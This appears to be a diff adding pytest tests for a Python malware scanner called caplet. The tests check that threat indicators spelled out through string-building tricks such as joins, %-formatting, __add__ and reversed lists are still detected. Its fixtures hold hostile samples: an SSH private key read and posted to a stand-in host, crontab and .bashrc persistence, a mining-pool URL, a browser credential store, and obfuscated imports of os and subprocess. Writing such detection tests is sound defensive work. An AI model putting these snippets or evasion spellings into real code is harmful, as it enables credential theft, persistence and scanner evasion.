@@ -1,0 +1,162 @@
+"""Literals glued in spellings the glue pass does not read (caplet._scan._glued_forms).
+
+Each attack below spelled an indicator or a hidden name by a glue the AST pass evaluates
+and the prefilter's glue pass did not read (``'%s%s' % (...)``, ``''.join (``, ...): clean
+in package mode, DANGER with the whole file visited (or, for ``__add__`` and a credential
+path glued from pieces, clean both ways: the rules themselves did not read the glue).
+"""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from caplet._findings import Severity
+from caplet._scan._glued_forms import MAX_FORMS, form_values, with_glued_forms
+from caplet._scan._model import ScanMode
+from caplet._scan._prefilter import Need, prefilter
+from caplet._scan._scanner import scan_tree
+from tests._scan.prefilterkit import found_in_a_package, tree_both_ways
+
+#: Glue spellings of an indicator or a hidden name, each beside what makes it a threat.
+_ATTACKS = {
+    # an indicator (a persistence file, a browser store, a miner pool) glued
+    "join-blank-paren": (
+        "import os\nc = ''.join (['cront', 'ab -l'])\nos.system(c)\n",
+        "CPL-THR-009",
+    ),
+    "join-blank-dot": ("u = '' .join(['stratum+t', 'cp://pool.example:3333'])\n", "CPL-THR-010"),
+    "str-join": ("x = str.join('', ['Lo', 'gin Data'])\n", "CPL-THR-005"),
+    "percent": ("import os\nos.system('echo x >> %s%s' % ('~/.ba', 'shrc'))\n", "CPL-THR-009"),
+    "format": ("x = '{}{}'.format('Lo', 'gin Data')\n", "CPL-THR-005"),
+    "paren-plus": ("import os\nos.system('echo x >> ' + ('~/.ba') + 'shrc')\n", "CPL-THR-009"),
+    "reversed": ("x = ''.join(reversed(['gin Data', 'Lo']))\n", "CPL-THR-005"),
+    "dunder-add": ("u = 'stratum+t'.__add__('cp://pool.example:3333')\n", "CPL-THR-010"),
+    "f-string-field": ("import os\nos.system(f'{\"cront\"}ab -l')\n", "CPL-THR-009"),
+    # a module name glued on one line and imported by name on another
+    "import-plus": ("n = 'o' + 's'\nm = __import__(n)\nm.system('id')\n", "CPL-THR-003"),
+    "import-f-string": ("m = __import__('o' + f's')\nm.system('id')\n", "CPL-THR-003"),
+    "import-percent": (
+        "import importlib\nn = '%s%s' % ('sub', 'process')\nimportlib.import_module(n).run('id')\n",
+        "CPL-THR-003",
+    ),
+    "import-reversed": (
+        "import importlib\nn = ''.join(reversed(['ssecorp', 'bus'][::-1]))\n"
+        "m = importlib.import_module(n[::-1])\nm.run('id')\n",
+        "CPL-THR-003",
+    ),
+    # a credential path glued from pieces, sent
+    "credential-plus": (
+        "import os, requests\np = os.path.expanduser('~/.ss' + 'h/id_rsa')\n"
+        "requests.post('http://x.example/', data=open(p).read())\n",
+        "CPL-THR-007",
+    ),
+    "credential-percent": (
+        "import os, requests\np = os.path.expanduser('%s%s' % ('~/.ss', 'h/id_rsa'))\n"
+        "requests.post('http://x.example/', data=open(p).read())\n",
+        "CPL-THR-007",
+    ),
+    "credential-join-blank": (
+        "import os, requests\np = os.path.expanduser(''.join (['~/.ss', 'h/id_rsa']))\n"
+        "requests.post('http://x.example/', data=open(p).read())\n",
+        "CPL-THR-007",
+    ),
+    "browser-store-add": ("x = 'Lo'.__add__('gin Data')\n", "CPL-THR-005"),
+}
+
+
+def _plugin_rules(root: Path) -> set[str]:
+    report = scan_tree(root, mode=ScanMode.PLUGIN)
+    return {f.rule_id for f in report.findings if f.severity is Severity.DANGER}
+
+
+@pytest.mark.parametrize("shape", sorted(_ATTACKS))
+def test_a_glue_in_another_spelling_is_found_in_a_package_and_a_plugin(
+    shape: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    text, rule = _ATTACKS[shape]
+    found_in_a_package(tmp_path, monkeypatch, text, rule)
+    assert rule in _plugin_rules(tmp_path)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        # formatting, joins and additions of literals that spell nothing worth a finding
+        "x = '{}: {}'.format('a', 'b')\nprint('%s-%s' % ('x', 'y'))\n",
+        "sep = ''.join (['a', 'b'])\nname = str.join('', ['re', 'port'])\n",
+        "label = ('Hello') + ' world'\nlabel2 = 'a'.__add__('b')\nf'{\"x\"}y'\n",
+        # a module imported by a name a plugin loader builds from literals
+        "import importlib\nn = '%s.%s' % ('pkg', 'plugins')\nm = importlib.import_module(n)\n",
+        # a path glued from pieces that names no credential, sent
+        "import os, requests\np = os.path.expanduser('~/.con' + 'fig/app.toml')\n"
+        "requests.post('http://x.example/', data=open(p).read())\n",
+    ],
+    ids=["format", "join", "add", "plugin-loader", "config-path"],
+)
+def test_benign_glues_stay_clean(
+    text: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    (tmp_path / "mod.py").write_text(text, encoding="utf-8")
+    filtered, whole = tree_both_ways(tmp_path, monkeypatch)
+    assert filtered == whole == []
+
+
+def test_only_a_name_glued_beside_a_lookup_by_a_name_sends_the_file() -> None:
+    check = prefilter().check
+    # the same glue, no lookup by a name not written out: the answer stays nothing
+    text = "n = '%s%s' % ('o', 's')\nprint(n)\n"
+    assert with_glued_forms(text, check(text), check) is Need.NOTHING
+    text = "n = '%s%s' % ('o', 's')\nm = __import__(n)\n"
+    assert with_glued_forms(text, check(text), check) is Need.FULL
+
+
+def test_each_form_is_read_as_its_value() -> None:
+    text = (
+        "a = '%s%s' % ('ev', 'al')\n"
+        "b = '{}{}'.format('ex', 'ec')\n"
+        "c = str.join('', ['sy', 'stem'])\n"
+        "d = ''.join(reversed(['al', 'ev']))\n"
+        "e = 'c'.__add__('md')\n"
+        "f = ('Lo') + 'gin'\n"
+        "g = f'{\"Lo\"}gin'\n"
+    )
+    prefilter().check(text)
+    found = form_values(text)
+    assert found is not None
+    lines, _, firsts, values = found
+    assert values == ["eval", "exec", "system", "eval", "cmd", "Login", "Login"]
+    assert firsts == [1, 2, 3, 4, 5, 6, 7]
+    assert lines.splitlines()[0] == "a = 'eval'"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        # a width, a conversion or an attribute builds what no literal holds: refused
+        "x = '%999999999s' % ('a',)\n",
+        "x = '{:>999999999}'.format('a')\n",
+        "x = '{0.__class__}'.format('a')\n",
+        "x = '{!r}'.format('a')\n",
+        # not literals only
+        "x = '%s%s' % ('a', b)\n",
+        # a value past the bound
+        "x = '%s%s' % ('" + "a" * 3000 + "', '" + "b" * 3000 + "')\n",
+    ],
+)
+def test_what_cannot_be_read_safely_is_not_built(text: str) -> None:
+    prefilter().check(text)
+    assert form_values(text) is None
+
+
+def test_a_file_past_the_bound_of_forms_is_visited_whole() -> None:
+    text = "x = '%s' % ('a',)\n" * (MAX_FORMS + 1)
+    check = prefilter().check
+    assert with_glued_forms(text, check(text), check) is Need.FULL
+
+
+def test_a_file_without_a_mark_is_not_searched() -> None:
+    text = "x = 1\n"
+    prefilter().check(text)
+    assert form_values(text) is None
